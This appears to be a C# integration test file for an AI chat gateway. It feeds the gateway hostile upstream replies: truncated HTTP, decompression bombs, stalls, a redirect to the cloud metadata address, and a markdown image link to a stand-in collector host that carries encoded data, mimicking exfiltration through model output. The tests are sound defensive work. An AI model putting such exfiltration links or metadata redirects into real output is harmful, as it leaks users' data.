using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using Sallyport.IntegrationTests.Gateway;
using Sallyport.IntegrationTests.Processes;
using Xunit;

namespace Sallyport.IntegrationTests.Hostile;

/// <summary>Upstreams that break off, flood or stall: the caller gets a clear error in its protocol, and the gateway goes on.</summary>
public sealed class HostileUpstreamTests(HostileGateway gateway) : IClassFixture<HostileGateway>
{
    private const string JsonHead = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n";
    private const string Link = "![chart](https://collector.example/p.png?data=Y3VzdG9tZXIgbGlzdCBvZiAyMDI2MjAyNi)";

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    /// <summary>What the upstream sends before it closes, and how the gateway answers.</summary>
    public static TheoryData<string, int, string> Answers => new()
    {
        { "", 502, "upstream_invalid" },
        { "HTTP/1.1 200 O", 502, "upstream_invalid" },
        { "HTTP/1.1 200 OK\r\nContent-Type: applic", 502, "upstream_invalid" },
        { "SSH-2.0-OpenSSH_9.6\r\n", 502, "upstream_invalid" },
        { "HTTP/1.1 099 Odd\r\nContent-Length: 0\r\n\r\n", 502, "upstream_invalid" },
        { "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n", 502, "upstream_invalid" },
        { "HTTP/1.1 205 Reset Content\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}", 502, "upstream_invalid" },
        { "HTTP/1.1 999 Odd\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}", 502, "upstream_invalid" },
        { "HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/\r\nContent-Length: 0\r\n\r\n", 502, "upstream_invalid" },
        { JsonHead + "Content-Length: 100\r\n\r\n{\"id\":", 502, "upstream_invalid" },
        { JsonHead + "Transfer-Encoding: chunked\r\n\r\n5\r\n{\"id\"\r\n", 502, "upstream_invalid" },
        { JsonHead + "Transfer-Encoding: chunked\r\n\r\nZZ\r\n{\"id\"\r\n", 502, "upstream_invalid" },
        { JsonHead + "\r\n" + "{\"id\":", 502, "upstream_invalid" },
        { JsonHead + "Content-Encoding: zstd\r\nContent-Length: 2\r\n\r\n{}", 502, "upstream_invalid" },
        { JsonHead + "Content-Encoding: br\r\nContent-Length: 2\r\n\r\n{}", 502, "upstream_invalid" },
        { JsonHead + "Content-Encoding: gzip\r\nContent-Length: 2\r\n\r\n{}", 502, "upstream_invalid" },
        { JsonHead + "Content-Length: 99999999999\r\n\r\n{}", 502, "response_too_large" },
        { "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 6\r\n\r\n<html>", 502, "upstream_invalid" },
        { "HTTP/1.1 200 OK\r\n" + string.Concat(Enumerable.Range(0, 10_000).Select(i => $"X-{i.ToString(CultureInfo.InvariantCulture)}: aaaaaaaa\r\n")) + "\r\n{}", 502, "upstream_invalid" },
        { $"HTTP/1.1 200 OK\r\nX-Long: {new string('a', 1024 * 1024)}\r\n\r\n{{}}", 502, "upstream_invalid" },
    };

    /// <summary>The codings.</summary>
    public static TheoryData<string> Codings => [.. Compressed.Codings];

    [Theory]
    [MemberData(nameof(Answers))]
    public async Task An_answer_that_is_no_answer_becomes_a_clear_error(string sent, int status, string code)
    {
        var before = await gateway.CountAsync();
        await using var upstream = await RawUpstream.StartAsync(Encoding.Latin1.GetBytes(sent));

        var (answered, text) = await AskAsync(upstream);

        Assert.True(answered == (HttpStatusCode)status, text);
        Assert.Equal(code, JsonElement.Parse(text).GetProperty("error").GetProperty("code").GetString());
        await gateway.AssertServesAsync(before, entries: 1);
    }

    [Theory]
    [MemberData(nameof(Codings))]
    public async Task A_small_answer_that_unpacks_to_a_large_one_is_refused(string coding)
    {
        var before = await gateway.CountAsync();
        var bomb = Compressed.Bomb(coding, megabytes: 64);
        await using var upstream = await RawUpstream.StartAsync(
            [.. Encoding.Latin1.GetBytes($"{JsonHead}Content-Encoding: {coding}\r\nContent-Length: {bomb.Length.ToString(CultureInfo.InvariantCulture)}\r\n\r\n"), .. bomb]);

        var (answered, text) = await AskAsync(upstream);

        Assert.Equal(HttpStatusCode.BadGateway, answered);
        Assert.Contains("\"code\":\"response_too_large\"", text, StringComparison.Ordinal);
        await gateway.AssertServesAsync(before, entries: 1);
    }

    [Fact]
    public async Task An_upstream_that_never_answers_is_given_up()
    {
        var before = await gateway.CountAsync();
        await using var upstream = await RawUpstream.StartAsync((_, cancellationToken) => Task.Delay(Timeout.Infinite, cancellationToken));

        var (answered, text) = await AskAsync(upstream);

        Assert.Equal(HttpStatusCode.GatewayTimeout, answered);
        Assert.Contains("\"code\":\"upstream_timeout\"", text, StringComparison.Ordinal);
        await gateway.AssertServesAsync(before, entries: 1);
    }

    [Fact]
    public async Task An_upstream_that_only_ever_says_continue_is_given_up()
    {
        var before = await gateway.CountAsync();
        await using var upstream = await RawUpstream.StartAsync(async (stream, cancellationToken) =>
        {
            while (true)
            {
                await RawUpstream.SendAsync(stream, "HTTP/1.1 100 Continue\r\n\r\n", cancellationToken);
            }
        });

        var (answered, _) = await AskAsync(upstream);

        Assert.Contains(answered, new[] { HttpStatusCode.GatewayTimeout, HttpStatusCode.BadGateway });
        await gateway.AssertServesAsync(before, entries: 1);
    }

    [Fact]
    public async Task An_answer_that_falls_silent_is_given_up()
    {
        var before = await gateway.CountAsync();
        await using var upstream = await RawUpstream.StartAsync(async (stream, cancellationToken) =>
        {
            await RawUpstream.SendAsync(stream, JsonHead + "Content-Length: 100\r\n\r\n{", cancellationToken);
            await Task.Delay(Timeout.Infinite, cancellationToken);
        });

        var (answered, text) = await AskAsync(upstream);

        Assert.Equal(HttpStatusCode.GatewayTimeout, answered);
        Assert.Contains("\"code\":\"upstream_timeout\"", text, StringComparison.Ordinal);
        await gateway.AssertServesAsync(before, entries: 1);
    }

    [Fact]
    public async Task A_stream_that_falls_silent_ends_with_an_error_event()
    {
        var before = await gateway.CountAsync();
        await using var upstream = await RawUpstream.StartAsync(async (stream, cancellationToken) =>
        {
            await RawUpstream.SendAsync(stream, RawUpstream.StreamHead + RawUpstream.Event("One moment."), cancellationToken);
            await Task.Delay(Timeout.Infinite, cancellationToken);
        });

        await AssertStreamEndsAsync(upstream, before, "upstream_timeout");
    }

    [Fact]
    public async Task A_stream_whose_connection_is_closed_ends_with_an_error_event()
    {
        var before = await gateway.CountAsync();
        await using var upstream = await RawUpstream.StartAsync(Encoding.UTF8.GetBytes(RawUpstream.StreamHead + RawUpstream.Event("One moment.")));

        await AssertStreamEndsAsync(upstream, before, "upstream_invalid");
    }

    [Fact]
    public async Task An_event_without_end_ends_the_stream_at_the_limit()
    {
        var before = await gateway.CountAsync();
        await using var upstream = await RawUpstream.StartAsync(async (stream, cancellationToken) =>
        {
            await RawUpstream.SendAsync(stream, RawUpstream.StreamHead + RawUpstream.Event("One moment.") + "data: {\"x\":\"", cancellationToken);
            while (true)
            {
                await RawUpstream.SendAsync(stream, new string('a', HostileGateway.MaxEventBytes), cancellationToken);
            }
        });

        await AssertStreamEndsAsync(upstream, before, "upstream_invalid");
    }

    [Theory]
    [InlineData(": ")]
    [InlineData(": x\u2028data: ")]
    [InlineData("id: ")]
    [InlineData("event: ")]
    [InlineData("DATA: ")]
    [InlineData(" data: ")]
    [InlineData("\v")]
    public async Task What_is_no_payload_of_a_stream_is_not_passed_on(string field)
    {
        var before = await gateway.CountAsync();
        await using var upstream = await RawUpstream.StartAsync(
            Encoding.UTF8.GetBytes(RawUpstream.StreamHead + RawUpstream.Event("Look: ") + $"{field}{Link}\n\n{field}{Link}\n" + RawUpstream.Event("Done.") + RawUpstream.StreamEnd));

        var (_, text) = await AskAsync(upstream, isStream: true);

        Assert.DoesNotContain("collector.example", text, StringComparison.Ordinal);
        Assert.Contains("Done.", text, StringComparison.Ordinal);
        Assert.EndsWith("data: [DONE]\n\n", text, StringComparison.Ordinal);
        await gateway.AssertServesAsync(before, entries: 1);
    }

    [Theory]
    [InlineData("X-Label: caf\u00e9")]
    [InlineData("X-Label: a\u0001b")]
    [InlineData("Content-Language: \u00e9")]
    public async Task A_header_that_cannot_be_passed_on_does_not_cost_the_answer(string header)
    {
        var before = await gateway.CountAsync();
        await using var upstream = await RawUpstream.StartAsync(Encoding.Latin1.GetBytes($"{JsonHead}{header}\r\nContent-Length: 2\r\n\r\n{{}}"));

        var (answered, text) = await AskAsync(upstream);

        Assert.Equal((HttpStatusCode.OK, "{}"), (answered, text));
        await gateway.AssertServesAsync(before, entries: 1);
    }

    [Fact]
    public async Task A_type_that_repeats_the_credential_is_not_named_in_the_refusal()
    {
        var before = await gateway.CountAsync();
        await using var upstream = await RawUpstream.StartAsync(Encoding.Latin1.GetBytes(
            $"HTTP/1.1 200 OK\r\nContent-Type: application/{GatewayFixture.UpstreamSecret}\r\nContent-Length: 2\r\n\r\n{{}}"));

        var (answered, text) = await AskAsync(upstream);

        Assert.Equal(HttpStatusCode.BadGateway, answered);
        Assert.DoesNotContain(GatewayFixture.UpstreamSecret, text, StringComparison.Ordinal);
        await gateway.AssertServesAsync(before, entries: 1);
    }

    [Fact]
    public async Task A_leak_in_the_last_words_of_a_stream_is_blocked()
    {
        var before = await gateway.CountAsync();
        await using var upstream = await RawUpstream.StartAsync(
            Encoding.UTF8.GetBytes(RawUpstream.StreamHead + RawUpstream.Event("Look: ") + RawUpstream.Event(Link) + RawUpstream.StreamEnd));

        await AssertStreamEndsAsync(upstream, before, "response_blocked");
    }

    private async Task<(HttpStatusCode Status, string Body)> AskAsync(RawUpstream upstream, bool isStream = false)
    {
        var proxy = await gateway.AddProxyAsync(upstream.Url);
        using var request = ChatRequest.Create(gateway.Url, proxy, gateway.Key, "Hello", isStream: isStream);
        using var answer = await gateway.Client.SendAsync(request, Token);
        return (answer.StatusCode, await answer.Content.ReadAsStringAsync(Token));
    }

    private async Task AssertStreamEndsAsync(RawUpstream upstream, int before, string code)
    {
        var (answered, text) = await AskAsync(upstream, isStream: true);

        Assert.Equal(HttpStatusCode.OK, answered);
        Assert.Contains($"\"code\":\"{code}\"", text, StringComparison.Ordinal);
        Assert.True(text.Length < 4096, $"{text.Length} characters of a broken answer were passed on.");
        await gateway.AssertServesAsync(before, entries: 1);
    }
}
